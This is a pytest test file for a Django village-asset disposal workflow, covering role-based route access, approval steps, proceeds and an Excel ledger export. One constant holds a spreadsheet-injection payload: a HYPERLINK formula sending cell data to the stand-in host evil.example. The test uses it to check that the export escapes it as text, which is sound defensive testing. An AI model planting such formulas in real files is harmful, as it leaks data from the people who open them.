"""P15 disposal pages: apply (with the 核销 and 到户类 explanations), the list with 待我审批 for the role whose
step it is, one application with its chain and the forms of the user's role, the proceeds form, the 处置台账
workbook read back with calamine equal to the database and audited — and every route by role (in scope
200/302, out of scope 404, a role without the capability 403). Both databases."""

from __future__ import annotations

import datetime
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from python_calamine import CalamineWorkbook

from tests.assets.builders import accepted_project, asset_input, asset_users, handed_over, registered
from zhenxing.accounts.models import User
from zhenxing.assets import disposals, upkeep
from zhenxing.assets.care import asset_care_on
from zhenxing.assets.inputs import DisposalInput
from zhenxing.assets.models import Asset, AssetAttachment, Disposal
from zhenxing.audit.models import AuditEvent
from zhenxing.common import clock

pytestmark = pytest.mark.django_db
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'

# route name → URL builder (the lead plugs these into tests/test_jurisdiction_matrix.py)
DISPOSAL_ROUTES: dict[str, Callable[[dict[str, Any]], str]] = {
    "assets:disposal_new": lambda ids: f"/assets/{ids['asset']}/disposals/new/",
    "assets:disposals": lambda ids: "/assets/disposals/",
    "assets:disposal_log_xlsx": lambda ids: "/assets/disposals/export.xlsx",
    "assets:disposal_detail": lambda ids: f"/assets/disposals/{ids['disposal']}/",
    "assets:disposal_move": lambda ids: f"/assets/disposals/{ids['disposal']}/move/",
    "assets:disposal_proceeds": lambda ids: f"/assets/disposals/{ids['disposal']}/proceeds/",
}
POSTED = {
    "assets:disposal_move": {"to": "refused", "opinion": ""},
    "assets:disposal_proceeds": {"amount": "100", "use": "consolidation"},
}
# the road of 西山村 (transport sector) with an application waiting for the township; agriculture does not
# supervise roads, other_county is 大理's 乡村振兴局, finance has no asset capability
EXPECTED: dict[str, dict[str, int]] = {
    "assets:disposal_new": {"village": 200, "township": 200, "county": 200, "transport": 403, "agriculture": 403,
                            "prefecture": 403, "finance": 403, "other_county": 404},
    "assets:disposals": {"village": 200, "township": 200, "county": 200, "transport": 200, "agriculture": 200,
                         "prefecture": 200, "finance": 403, "other_county": 200},
    "assets:disposal_log_xlsx": {"village": 200, "township": 200, "county": 200, "transport": 200,
                                 "agriculture": 200, "prefecture": 200, "finance": 403, "other_county": 200},
    "assets:disposal_detail": {"village": 200, "township": 200, "county": 200, "transport": 200,
                               "agriculture": 404, "prefecture": 200, "finance": 403, "other_county": 404},
    # the township's step: the township gets the form back (a refusal needs its reason); other roles may not
    "assets:disposal_move": {"village": 403, "township": 422, "county": 403, "transport": 403, "agriculture": 404,
                             "prefecture": 403, "finance": 403, "other_county": 404},
    # not approved yet: the territorial roles are told so; roles that keep no collective's books may not
    "assets:disposal_proceeds": {"village": 409, "township": 409, "county": 409, "transport": 403,
                                 "agriculture": 403, "prefecture": 403, "finance": 403, "other_county": 404},
}  # fmt: skip


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _roads(users: dict[str, User], count: int = 1) -> list[Asset]:
    project = accepted_project(users)
    items = [asset_input(name=f"道路{i}", value="10") for i in range(count)]
    return [handed_over(users, asset) for asset in registered(users, project, *items)]


def _apply(users: dict[str, User], asset: Asset, by: str = "village", **changes: Any) -> Disposal:
    values: dict[str, Any] = {"kind": "scrap", "reason": "道路改线，原路段废弃", "valuation": "2",
                              "valuation_basis": "评估报告〔2026〕3号"}  # fmt: skip
    values.update(changes)
    return disposals.disposal_apply(actor=users[by], asset=asset, data=DisposalInput(**values))


def _move(users: dict[str, User], disposal: Disposal, by: str, to: str) -> Disposal:
    return disposals.disposal_move(actor=users[by], disposal=disposal, to=to, opinion="同意")


@pytest.mark.parametrize("route", sorted(DISPOSAL_ROUTES))
def test_p15_disposal_routes_by_role(route: str) -> None:
    users = asset_users()
    (road,) = _roads(users)
    disposal = _apply(users, road)
    url = DISPOSAL_ROUTES[route]({"asset": road.pk, "disposal": disposal.pk})
    for role, expected in EXPECTED[route].items():
        client = _client(users[role])
        response = client.post(url, POSTED[route]) if route in POSTED else client.get(url)
        assert response.status_code == expected, (route, role, response.status_code)
    # nothing moved and nothing was recorded by any of these
    disposal.refresh_from_db()
    assert disposal.status == "applied" and disposal.proceeds_fen is None


def test_p15_out_of_scope_lists_and_logs_are_empty() -> None:
    users = asset_users()
    (road,) = _roads(users)
    disposal = _apply(users, road)
    for role in ("agriculture", "other_county"):
        page = _client(users[role]).get("/assets/disposals/")
        assert f'data-disposal="{disposal.pk}"' not in page.content.decode()
        rows = _log_rows(_client(users[role]).get("/assets/disposals/export.xlsx").content)
        assert rows == []
    assert (
        f'data-disposal="{disposal.pk}"'
        in _client(users["transport"]).get("/assets/disposals/").content.decode()
    )


def test_p15_the_application_form_explains_write_off_and_household_assets_and_applies() -> None:
    users = asset_users()
    (road,) = _roads(users)
    client = _client(users["village"])
    page = client.get(f"/assets/{road.pk}/disposals/new/").content.decode()
    assert "损毁" in page and "灭失" in page and "到户类" in page and 'name="valuation"' in page
    # an empty form: every problem by its field, status 422, the input kept
    response = client.post(
        f"/assets/{road.pk}/disposals/new/", {"kind": "mortgage", "reason": "为合作社贷款抵押"}
    )
    assert response.status_code == 422
    body = response.content.decode()
    assert 'data-error="legal_basis"' in body and 'data-error="valuation_basis"' in body
    assert "为合作社贷款抵押" in body
    # a write-off before any 损毁/灭失 inspection is a conflict
    response = client.post(f"/assets/{road.pk}/disposals/new/", {
        "kind": "write_off", "reason": "损毁", "valuation": "0", "valuation_basis": "现场查看"})  # fmt: skip
    assert response.status_code == 409 and "损毁或灭失" in response.content.decode()
    # a proper application with its evaluation report
    report = SimpleUploadedFile("评估报告.pdf", b"%PDF-1.4\n%test report\n", content_type="application/pdf")
    response = client.post(f"/assets/{road.pk}/disposals/new/", {
        "kind": "scrap", "reason": "道路改线", "valuation": "1.5", "valuation_basis": "评估报告〔2026〕3号",
        "files": [report]})  # fmt: skip
    disposal = Disposal.objects.get(asset=road)
    assert response.status_code == 302 and response["Location"] == f"/assets/disposals/{disposal.pk}/"
    assert disposal.valuation_fen == 1_500_000 and disposal.applied_by == users["village"]
    assert AssetAttachment.objects.filter(disposal=disposal, name="评估报告.pdf").exists()
    assert "评估报告.pdf" in client.get(f"/assets/disposals/{disposal.pk}/").content.decode()
    assert AuditEvent.objects.filter(action="asset.disposal_apply", target_id=str(disposal.pk)).exists()
    # the form is no longer offered while it is open
    again = client.get(f"/assets/{road.pk}/disposals/new/").content.decode()
    assert 'data-testid="disposal-form"' not in again and "审批中" in again


def test_p15_a_household_asset_has_no_application_form() -> None:
    users = asset_users()
    project = accepted_project(users)
    (cattle,) = registered(users, project, asset_input(name="到户能繁母牛", asset_type_code="livestock",
                                                       quantity="10", value="5"))  # fmt: skip
    client = _client(users["village"])
    page = client.get(f"/assets/{cattle.pk}/disposals/new/").content.decode()
    assert 'data-testid="disposal-form"' not in page and "到户类资产归农户所有" in page
    response = client.post(f"/assets/{cattle.pk}/disposals/new/", {
        "kind": "scrap", "reason": "死亡", "valuation": "0", "valuation_basis": "村核实"})  # fmt: skip
    assert response.status_code == 409 and not Disposal.objects.exists()


def test_p15_waiting_for_me_shows_what_is_at_my_roles_step() -> None:
    users = asset_users()
    a, b, c = _roads(users, count=3)
    above = asset_care_on(clock.today())[0]["government_above_wan"]
    at_township = _apply(users, a)
    at_sector = _move(users, _apply(users, b), "township", "township_ok")
    at_county = _apply(users, c, valuation=str(above + 1))
    at_county = _move(users, _move(users, at_county, "township", "township_ok"), "transport", "sector_ok")

    def waiting(role: str) -> set[int]:
        page = _client(users[role]).get("/assets/disposals/", {"waiting": "1"}).content.decode()
        return {d.pk for d in (at_township, at_sector, at_county) if f'data-disposal="{d.pk}"' in page}

    assert waiting("township") == {at_township.pk}
    assert waiting("transport") == {at_sector.pk}
    assert waiting("county") == {at_county.pk}
    assert waiting("agriculture") == set() and waiting("village") == set()
    # the status and kind filters
    page = _client(users["county"]).get("/assets/disposals/", {"status": "township_ok", "kind": "scrap"})
    body = page.content.decode()
    assert f'data-disposal="{at_sector.pk}"' in body and f'data-disposal="{at_township.pk}"' not in body


def test_p15_the_detail_page_offers_each_role_its_own_moves_and_records_them() -> None:
    users = asset_users()
    (road,) = _roads(users)
    disposal = _apply(users, road)
    url = f"/assets/disposals/{disposal.pk}/"
    township = _client(users["township"]).get(url).content.decode()
    assert 'data-testid="move-township_ok"' in township and 'data-testid="move-refused"' in township
    for role in ("village", "county", "transport", "prefecture"):
        assert 'data-testid="decide"' not in _client(users[role]).get(url).content.decode(), role
    # the township approves with an opinion
    response = _client(users["township"]).post(
        f"{url}move/", {"to": "township_ok", "opinion": "情况属实，同意"}
    )
    assert response.status_code == 302
    # below the threshold the sector department approves; it is not offered to pass it up
    sector = _client(users["transport"]).get(url).content.decode()
    assert 'data-testid="move-approved"' in sector and 'data-testid="move-sector_ok"' not in sector
    assert "情况属实，同意" in sector and "未超过" in sector
    # passing it up anyway is a conflict shown on the page
    response = _client(users["transport"]).post(f"{url}move/", {"to": "sector_ok", "opinion": "报县政府"})
    assert response.status_code == 409
    response = _client(users["transport"]).post(f"{url}move/", {"to": "approved", "opinion": "同意报废"})
    assert response.status_code == 302
    disposal.refresh_from_db()
    road.refresh_from_db()
    assert disposal.status == "approved" and road.status == "disposed"
    # the sector's step shows the threshold it was compared against
    done = _client(users["village"]).get(url).content.decode()
    above = asset_care_on(clock.today())[0]["government_above_wan"]
    assert f"县人民政府审批起点超过 {above} 万元" in done and "同意报废" in done
    assert AuditEvent.objects.filter(action="asset.disposal_approve", target_id=str(disposal.pk)).count() == 1


def test_p15_above_the_threshold_the_sector_passes_it_up_and_the_county_approves() -> None:
    users = asset_users()
    (road,) = _roads(users)
    above = asset_care_on(clock.today())[0]["government_above_wan"]
    disposal = _move(users, _apply(users, road, kind="auction", valuation=f"{above}.000001"), "township",
                     "township_ok")  # fmt: skip
    url = f"/assets/disposals/{disposal.pk}/"
    sector = _client(users["transport"]).get(url).content.decode()
    assert 'data-testid="move-sector_ok"' in sector and 'data-testid="move-approved"' not in sector
    assert (
        _client(users["transport"]).post(f"{url}move/", {"to": "sector_ok", "opinion": "同意"}).status_code
        == 302
    )
    county = _client(users["county"]).get(url).content.decode()
    assert 'data-testid="move-approved"' in county and "县人民政府审批" in county
    assert (
        _client(users["county"]).post(f"{url}move/", {"to": "approved", "opinion": "同意"}).status_code == 302
    )
    assert Disposal.objects.get(pk=disposal.pk).status == "approved"


def test_p15_a_refusal_without_a_reason_is_shown_at_its_field_and_the_applicant_gets_no_form() -> None:
    users = asset_users()
    (road,) = _roads(users)
    disposal = _apply(users, road)
    url = f"/assets/disposals/{disposal.pk}/"
    response = _client(users["township"]).post(f"{url}move/", {"to": "refused", "opinion": ""})
    assert response.status_code == 422 and 'data-error="opinion"' in response.content.decode()
    response = _client(users["township"]).post(f"{url}move/", {"to": "refused", "opinion": "理由不充分"})
    assert response.status_code == 302
    assert (
        AuditEvent.objects.get(action="asset.disposal_refuse", target_id=str(disposal.pk)).reason
        == "理由不充分"
    )
    # the township's own application: no move form, a note instead
    (other,) = Asset.objects.filter(pk=road.pk)
    own = _apply(users, other, by="township")
    page = _client(users["township"]).get(f"/assets/disposals/{own.pk}/").content.decode()
    assert 'data-testid="decide"' not in page and 'data-testid="own-application"' in page
    response = _client(users["township"]).post(f"/assets/disposals/{own.pk}/move/",
                                               {"to": "township_ok", "opinion": "同意"})  # fmt: skip
    assert response.status_code == 403


def test_p15_proceeds_are_recorded_on_the_page_of_an_approved_collective_transfer() -> None:
    users = asset_users()
    (road,) = _roads(users)
    disposal = _move(users, _move(users, _apply(users, road, kind="transfer"), "township", "township_ok"),
                     "transport", "approved")  # fmt: skip
    url = f"/assets/disposals/{disposal.pk}/"
    assert 'data-testid="proceeds-form"' in _client(users["village"]).get(url).content.decode()
    assert 'data-testid="proceeds-form"' not in _client(users["transport"]).get(url).content.decode()
    response = _client(users["village"]).post(f"{url}proceeds/", {"amount": "8000", "use": "cash"})
    assert response.status_code == 422 and 'data-error="use"' in response.content.decode()
    response = _client(users["village"]).post(f"{url}proceeds/", {"amount": "8000.5", "use": "revitalization",
                                                                  "note": "用于村内产业"})  # fmt: skip
    assert response.status_code == 302
    disposal.refresh_from_db()
    assert disposal.proceeds_fen == 800_050 and disposal.proceeds_use == "revitalization"
    assert "8,000.50" in _client(users["village"]).get(url).content.decode()
    assert (
        AuditEvent.objects.filter(action="asset.disposal_proceeds", target_id=str(disposal.pk)).count() == 1
    )


# the workbook


def _log_rows(content: bytes) -> list[dict[str, Any]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    rows = book.get_sheet_by_name("处置台账").to_python()
    header = [str(cell) for cell in rows[1]]
    return [dict(zip(header, row, strict=False)) for row in rows[2:]]


def _day(value: Any) -> datetime.date | None:
    if value in ("", None):
        return None
    return value.date() if isinstance(value, datetime.datetime) else value


def test_p15_the_disposal_log_reads_back_equal_to_the_database_and_is_audited() -> None:
    # given an approved transfer with proceeds, a refused scrap (reason written like a formula) and an open one
    users = asset_users()
    a, b, c = _roads(users, count=3)
    approved = _move(users, _move(users, _apply(users, a, kind="transfer", valuation="12.345678"), "township",
                                  "township_ok"), "transport", "approved")  # fmt: skip
    disposals.disposal_record_proceeds(actor=users["village"], disposal=approved, amount="123456.78",
                                       use="consolidation", note="入股合作社")  # fmt: skip
    refused = _apply(users, b, reason=HOSTILE_REASON)
    refused = disposals.disposal_move(
        actor=users["township"], disposal=refused, to="refused", opinion="不同意"
    )
    waiting = _apply(users, c)
    # when the county downloads the log
    response = _client(users["county"]).get("/assets/disposals/export.xlsx")
    assert response.status_code == 200
    rows = {row["资产编号"]: row for row in _log_rows(response.content)}
    # then one row per application in scope, equal to the database
    assert set(rows) == {a.code, b.code, c.code}
    for disposal in Disposal.objects.select_related("asset", "asset__division"):
        row = rows[disposal.asset.code]
        assert row["资产名称"] == disposal.asset.name and row["所在村"] == disposal.asset.division.name
        assert row["资产类别"] == disposal.asset.get_category_display()
        assert (
            row["处置方式"] == disposal.get_kind_display()
            and row["处置状态"] == disposal.get_status_display()
        )
        assert Decimal(repr(row["评估价值（万元）"])) * 1_000_000 == disposal.valuation_fen
        assert _day(row["申请日期"]) == disposal.applied_on and "西山村" in row["申请单位"]
    assert rows[a.code]["乡镇审核结果"] == "乡镇审核通过：同意"
    assert _day(rows[a.code]["县行业主管部门审批日期"]) == clock.today()
    assert rows[a.code]["县行业主管部门审批结果"] == "县行业主管部门批准：同意"
    assert Decimal(repr(rows[a.code]["处置收入（元）"])) == Decimal("123456.78")
    assert rows[a.code]["收入用途"] == "巩固拓展脱贫攻坚成果" and rows[a.code]["收入使用说明"] == "入股合作社"
    assert (
        rows[b.code]["乡镇审核结果"] == "乡镇审核不通过：不同意"
        and not rows[b.code]["县行业主管部门审批日期"]
    )
    assert rows[b.code]["处置理由"] == "'" + HOSTILE_REASON  # text, never a formula
    assert not rows[c.code]["乡镇审核日期"] and rows[c.code]["处置收入（元）"] in ("", None)
    assert waiting.status == "applied"
    event = AuditEvent.objects.get(action="asset.export", actor=users["county"])
    assert event.new_values == {"report": "disposal_log", "rows": 3}
    # the status filter narrows the log like the list
    filtered = _log_rows(
        _client(users["county"]).get("/assets/disposals/export.xlsx", {"status": "refused"}).content
    )
    assert [row["资产编号"] for row in filtered] == [b.code]


def test_p15_a_write_off_after_a_damage_inspection_through_the_pages() -> None:
    users = asset_users()
    (road,) = _roads(users)
    upkeep.inspection_record(actor=users["village"], asset=road, on=clock.today(), outcome="damaged",
                               notes="山洪冲毁路基")  # fmt: skip
    page = _client(users["village"]).get(f"/assets/{road.pk}/disposals/new/").content.decode()
    assert "已记录为“损毁”" in page
    response = _client(users["village"]).post(f"/assets/{road.pk}/disposals/new/", {
        "kind": "write_off", "reason": "山洪冲毁", "valuation": "0", "valuation_basis": "巡查记录"})  # fmt: skip
    assert response.status_code == 302
    disposal = Disposal.objects.get(asset=road)
    for role, to in (("township", "township_ok"), ("transport", "approved")):
        url = f"/assets/disposals/{disposal.pk}/move/"
        assert _client(users[role]).post(url, {"to": to, "opinion": "同意核销"}).status_code == 302
    road.refresh_from_db()
    assert road.status == "written_off"
